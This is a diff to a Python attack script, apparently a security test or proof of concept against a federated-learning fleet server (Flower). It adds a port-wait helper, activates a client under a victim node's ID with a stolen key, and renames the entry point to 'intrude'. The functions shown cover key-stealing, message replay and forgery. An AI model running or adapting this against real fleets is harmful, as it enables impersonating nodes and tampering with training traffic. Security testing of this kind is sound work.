@@ -8,7 +8,7 @@ another signing key. Everything it does is real traffic to the real node; none o
 from __future__ import annotations
 
 import json
-import sys
+import socket
 import time
 from dataclasses import asdict, dataclass, replace
 from pathlib import Path
@@ -43,6 +43,19 @@ class Haul:
     own_key: str = ""
     replayed: int = 0
     forged: int = 0
+
+
+def wait_for_door(address: str) -> None:
+    """Wait until somebody listens there."""
+    host, _, port = address.rpartition(":")
+    deadline = time.monotonic() + PATIENCE_S
+    while time.monotonic() < deadline:
+        try:
+            socket.create_connection((host, int(port)), timeout=1).close()
+        except OSError:
+            time.sleep(0.5)
+        else:
+            return
 
 
 def knock(address: str, authority: Path) -> dict[str, int]:
@@ -112,7 +125,7 @@ def use_stolen_key(address: str, victim: Home, haul: Haul) -> None:
         return
     client = FleetClient(address, victim.parent_ca, victim.transport_pem)
     try:
-        client.activate()
+        client.activate(int((victim.folder / "flower" / "node-id").read_text("ascii")))
         while not (haul.replayed and haul.forged) and time.monotonic() < deadline:
             message = client.pull()
             if message is None:
@@ -133,18 +146,15 @@ def use_stolen_key(address: str, victim: Home, haul: Haul) -> None:
         client.close()
 
 
-def main(address: str, accomplice: Path, report: Path) -> None:
+def intrude(address: str, accomplice: Path, report: Path) -> None:
     """Run the whole attack and write down what came of it."""
     prepare_environment(report.parent / "flower")
     victim = open_home(accomplice, round(time.time() * 1000))
     authority = accomplice / "parent-ca.pem"
+    wait_for_door(address)
     haul = Haul(knock(address, authority))
     haul.own_key = connect_with_own_key(address, authority.read_bytes())
     try:
         use_stolen_key(address, victim, haul)
     finally:
         report.write_text(json.dumps(asdict(haul), indent=2))
-
-
-if __name__ == "__main__":
-    main(sys.argv[1], Path(sys.argv[2]), Path(sys.argv[3]))
